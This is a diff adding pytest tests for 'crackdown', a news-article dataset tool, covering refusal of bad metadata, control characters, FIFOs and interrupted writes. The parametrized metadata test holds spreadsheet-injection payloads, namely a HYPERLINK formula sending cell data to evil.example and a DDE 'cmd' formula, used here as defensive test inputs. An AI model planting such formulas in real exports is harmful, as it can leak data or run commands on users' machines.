@@ -5,17 +5,20 @@ from __future__ import annotations
 import hashlib
 import os
 import shutil
+import subprocess
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
+from conftest import SEED_FIXTURE
 from crackdown import cli, dataset
 from crackdown.articles import parse_published, read_articles
 from crackdown.errors import ArticleError
 from crackdown.paths import Paths
 
-ROOT = Paths.at().root
+ROOT = SEED_FIXTURE
 ARTICLE = "PHNOM PENH, March 14 (Mekong Wire) \u2013 Police deported 312 Chinese nationals on Wednesday.\n"
 
 
@@ -55,7 +58,10 @@ def add(project: Path, file: Path, *extra: str) -> int:
 
 
 def snapshot(project: Path) -> dict[str, bytes]:
-    return {p.name: p.read_bytes() for p in sorted((project / "seeds").iterdir())}
+    return {
+        p.name: p.read_bytes() if p.is_file() else b"(not a file)"
+        for p in sorted((project / "seeds").iterdir())
+    }
 
 
 def test_adding_copies_the_text_byte_for_byte_and_records_its_sha256(
@@ -235,3 +241,133 @@ def test_a_failed_table_write_removes_the_copied_text(
     assert "could not be written" in capsys.readouterr().err
     assert snapshot(project) == before
     assert not [p for p in (project / "seeds").iterdir() if p.name.startswith(".")]
+
+
+@pytest.mark.parametrize(
+    ("option", "value", "message"),
+    [
+        ("--outlet", '=HYPERLINK("http://evil.example/?"&A1,"Wire")', "starts with '='"),
+        ("--outlet", "@SUM(A1)", "starts with '@'"),
+        ("--headline", "+cmd|' /C calc'!A0", "starts with '+'"),
+        ("--credited", "-2+3", "starts with '-'"),
+        ("--notes", "\tindented", "starts with a tab"),
+        ("--outlet", "Mekong\x1b[31m Wire", "holds U+001B"),
+        ("--outlet", "Wire \u202eeriW", "holds U+202E"),
+        ("--id", "a" * 300, "300 characters long; an id has at most 100"),
+    ],
+)
+def test_metadata_a_spreadsheet_would_run_or_that_hides_text_is_refused(
+    project: Path,
+    article: Path,
+    option: str,
+    value: str,
+    message: str,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    before = snapshot(project)
+    table = (project / "seeds" / "articles.csv").read_bytes()
+    assert add(project, article, f"{option}={value}") == 1
+    err = capsys.readouterr().err
+    assert message in err and option in err
+    assert snapshot(project) == before
+    assert (project / "seeds" / "articles.csv").read_bytes() == table
+
+
+def test_a_text_whose_first_line_is_a_formula_needs_a_headline(
+    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    article.write_text("=1+1\nPolice deported 312 people.\n", encoding="utf-8")
+    assert add(project, article) == 1
+    assert "give --headline" in capsys.readouterr().err
+    assert add(project, article, "--headline", "Police deport 312") == 0
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"\x00" * 4096, "holds the control character U+0000 at line 1"),
+        (b"Police deported 31.\x07\n", "holds the control character U+0007 at line 1"),
+    ],
+)
+def test_a_file_of_control_characters_is_not_an_article(
+    project: Path,
+    article: Path,
+    content: bytes,
+    message: str,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    before = snapshot(project)
+    article.write_bytes(content)
+    assert add(project, article) == 1
+    assert message in capsys.readouterr().err
+    assert snapshot(project) == before
+
+
+def test_a_fifo_is_refused_without_waiting_for_a_writer(project: Path, tmp_path: Path) -> None:
+    fifo = tmp_path / "incoming.txt"
+    os.mkfifo(fifo)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "crackdown.cli",
+            "--root",
+            str(project),
+            "add-article",
+            str(fifo),
+            "--url",
+            "https://example.org/fifo",
+            "--outlet",
+            "Wire",
+            "--published",
+            "2025-03-14",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert result.returncode == 1
+    assert "is a FIFO, not a regular file" in result.stderr
+
+
+def test_a_byte_order_mark_is_kept_in_the_copy_but_not_in_the_headline(
+    project: Path, article: Path
+) -> None:
+    raw = b"\xef\xbb\xbf" + ARTICLE.encode("utf-8")
+    article.write_bytes(raw)
+    assert add(project, article, "--id", "wire-bom") == 0
+    assert (project / "seeds" / "wire-bom.txt").read_bytes() == raw
+    row = read_articles(Paths.at(project))[-1]
+    assert row["headline"] == ARTICLE.strip()
+    data, problems = dataset.check(project)
+    assert problems == [] and data is not None
+    assert data.texts["wire-bom"] == ARTICLE
+
+
+def test_an_add_article_stopped_before_recording_finishes_when_run_again(
+    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # What a kill between copying the text and recording its row leaves behind.
+    shutil.copyfile(article, project / "seeds" / "mekong-wire-2025-03-14.txt")
+    assert cli.main(["--root", str(project), "check"]) == 1
+    err = capsys.readouterr().err
+    assert "crackdown add-article seeds/mekong-wire-2025-03-14.txt" in err
+    assert add(project, article) == 0
+    row = read_articles(Paths.at(project))[-1]
+    assert row["article_id"] == "mekong-wire-2025-03-14"
+    assert dataset.check(project)[1] == []
+
+
+def test_an_unrecorded_text_of_other_bytes_is_not_overwritten(
+    project: Path, article: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    stray = project / "seeds" / "mekong-wire-2025-03-14.txt"
+    stray.write_text("Another text.\n", encoding="utf-8")
+    assert add(project, article) == 1
+    err = capsys.readouterr().err
+    assert (
+        "already exists, with another text" in err
+        and "delete seeds/mekong-wire-2025-03-14.txt" in err
+    )
+    assert stray.read_text(encoding="utf-8") == "Another text.\n"
